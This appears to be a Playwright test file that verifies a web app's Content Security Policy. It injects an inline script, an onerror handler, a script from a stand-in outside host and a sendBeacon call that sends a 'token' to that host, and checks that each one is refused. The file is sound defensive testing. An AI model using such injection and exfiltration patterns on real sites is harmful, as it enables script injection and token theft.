import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'

test.use({ expectedNoise: [/Content Security Policy/] })

/** The violations of the page's policy during an action in the page. */
async function refusedBy(page: Page, action: () => void): Promise<string[]> {
  await page.evaluate(() => {
    const refused: string[] = []
    Reflect.set(window, 'refused', refused)
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.push(effectiveDirective)
    })
  })
  await page.evaluate(action).catch(() => undefined)
  const refused = await page.waitForFunction(() => {
    const found: unknown = Reflect.get(window, 'refused')
    return Array.isArray(found) && found.length > 0 ? found.map(String) : undefined
  })
  return (await refused.jsonValue()) ?? []
}

const hasRun = (page: Page) => page.evaluate(() => Reflect.has(window, 'hasRun'))

test.beforeEach(async ({ page }) => {
  await page.goto('/login')
  await expect(page.getByRole('heading', { name: 'Login' })).toBeVisible()
})

test.describe('with the worker blocked, which would serve its own copy of the page', () => {
  test.use({
    serviceWorkers: 'block',
    expectedNoise: [/Content Security Policy|Service Worker/],
  })

  test(
    'an inline script that got into the page does not run',
    { tag: '@quick' },
    async ({ page }) => {
      await page.route('/signup', async (route) => {
        const response = await route.fetch()
        const body = (await response.text()).replace(
          '</body>',
          '<script>hasRun = true</script></body>',
        )
        await route.fulfill({ response, body })
      })
      const refusal = page.waitForEvent('console', (message) =>
        message.text().includes('script-src'),
      )
      await page.goto('/signup')
      await refusal
      expect(await hasRun(page)).toBe(false)
    },
  )
})

test('an injected event handler does not run', { tag: '@quick' }, async ({ page }) => {
  const refused = await refusedBy(page, () => {
    const picture = document.createElement('img')
    picture.setAttribute('onerror', 'window.hasRun = true')
    picture.src = 'data:,'
    document.body.append(picture)
  })
  expect(refused.join()).toMatch(/script-src/)
  expect(await hasRun(page)).toBe(false)
})

test('a script from another host is not loaded', { tag: '@quick' }, async ({ page }) => {
  const refused = await refusedBy(page, () => {
    const script = document.createElement('script')
    script.src = 'https://elsewhere.example/x.js'
    document.head.append(script)
  })
  expect(refused.join()).toMatch(/script-src/)
})

test('data is not sent to another host', { tag: '@quick' }, async ({ page }) => {
  const refused = await refusedBy(page, () => {
    navigator.sendBeacon('https://elsewhere.example/', 'token')
  })
  expect(refused).toEqual(['connect-src'])
})
